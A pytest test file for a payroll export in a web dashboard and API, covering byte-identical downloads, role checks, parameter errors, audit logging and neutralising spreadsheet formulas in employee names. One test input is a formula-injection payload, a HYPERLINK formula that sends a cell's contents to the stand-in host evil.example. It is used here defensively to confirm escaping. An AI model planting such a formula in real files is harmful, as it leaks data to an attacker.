"""The payroll download of the dashboard and the API: the same bytes as ``perfrules export payroll``, for the
roles that may export, with spreadsheet formulas neutralised in names."""

from __future__ import annotations

import csv
import io
from decimal import Decimal

import pytest
from openpyxl import load_workbook
from perfrules.engine.cli import cli
from perfrules.storage.models import Employee

from tests.web.support import PASSWORD

EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'


def _cli_export(runner, database_url, tmp_path, fmt):
    out = tmp_path / f"cli.{fmt}"
    result = runner.invoke(
        cli,
        [
            "--database-url",
            database_url,
            "export",
            "payroll",
            "--quarter",
            "2026Q1",
            "--format",
            fmt,
            "--output",
            str(out),
        ],
    )
    assert result.exit_code == 0, result.output
    return out


@pytest.mark.parametrize("username", ["hr", "pay"])
def test_download_is_byte_identical_to_the_cli_export(sign_in, runner, database_url, tmp_path, username):
    client = sign_in(username)
    csv_file = _cli_export(runner, database_url, tmp_path, "csv")
    xlsx_file = _cli_export(runner, database_url, tmp_path, "xlsx")

    page = client.get("/exports/payroll", params={"quarter": "2026Q1", "format": "csv"})
    assert page.status_code == 200
    assert page.content == csv_file.read_bytes()
    assert page.headers["content-disposition"] == 'attachment; filename="payroll-2026Q1.csv"'
    assert "-1111.11" in page.content.decode("utf-8-sig")
    lines = client.get("/api/v1/payroll-export", params={"quarter": "2026Q1", "format": "csv", "part": "lines"})
    assert lines.status_code == 200
    assert lines.content == (tmp_path / "cli.lines.csv").read_bytes()
    xlsx = client.get("/api/v1/payroll-export", params={"quarter": "2026Q1", "format": "xlsx"})
    assert xlsx.status_code == 200
    assert xlsx.content == xlsx_file.read_bytes()


@pytest.mark.parametrize("username", ["boss", "wang"])
def test_people_without_the_export_right_get_403(sign_in, username):
    client = sign_in(username)
    assert client.get("/exports/payroll", params={"quarter": "2026Q1"}).status_code == 403
    assert client.get("/api/v1/payroll-export", params={"quarter": "2026Q1"}).status_code == 403


@pytest.mark.parametrize(
    ("params", "named"),
    [
        ({"quarter": "garbage"}, "quarter"),
        ({"quarter": "2026-02"}, "quarter"),
        ({"quarter": "2026Q1", "format": "pdf"}, "format"),
        ({"quarter": "2026Q1", "format": "xlsx", "part": "lines"}, "part"),
    ],
)
def test_bad_parameters_answer_400_naming_them(sign_in, params, named):
    r = sign_in("hr").get("/api/v1/payroll-export", params=params)
    assert r.status_code == 400
    assert r.json()["detail"].startswith(f"{named}:")


@pytest.mark.parametrize("name", [EVIL, "@SUM(1+1)", "+1+1", "-1+1", "\tTAB"])
def test_names_that_look_like_formulas_stay_text(company, sign_in, name):
    with company.session() as s:
        s.get(Employee, "E2").name_en = name
    client = sign_in("hr")
    text = client.get("/exports/payroll", params={"quarter": "2026Q1", "format": "csv"}).content.decode("utf-8-sig")
    rows = {r["employee_id"]: r for r in csv.DictReader(io.StringIO(text))}
    assert rows["E2"]["name_en"] == f"'{name}"  # OWASP: a leading apostrophe, the text kept
    assert rows["E2"]["adjustment_amount"] == "-2222.22"  # negative money stays a number
    book = load_workbook(
        io.BytesIO(client.get("/exports/payroll", params={"quarter": "2026Q1", "format": "xlsx"}).content)
    )
    cells = [c for ws in book.worksheets for row in ws.iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    assert name in [c.value for c in cells]  # the text itself, as a string cell
    amounts = [c.value for c in cells if isinstance(c.value, (int, float, Decimal))]
    assert amounts, "money stays numeric"


def test_downloads_are_in_the_audit_log(sign_in, company):
    from perfrules.storage import access

    sign_in("pay").get("/exports/payroll", params={"quarter": "2026Q1", "format": "csv", "part": "lines"})
    entry = access.audit_entries(company, limit=1, action="payroll.export")[0]
    assert (entry.actor, entry.target) == ("user:pay", "2026Q1")
    assert PASSWORD not in repr(entry)


def test_cli_export_into_a_missing_folder_is_a_clear_error(company, runner, database_url, tmp_path):
    out = tmp_path / "no-such-folder" / "payroll.csv"
    result = runner.invoke(
        cli, ["--database-url", database_url, "export", "payroll", "--quarter", "2026Q1", "--output", str(out)]
    )
    assert result.exit_code == 1
    assert "the folder" in result.output and "does not exist" in result.output
    assert "Traceback" not in result.output
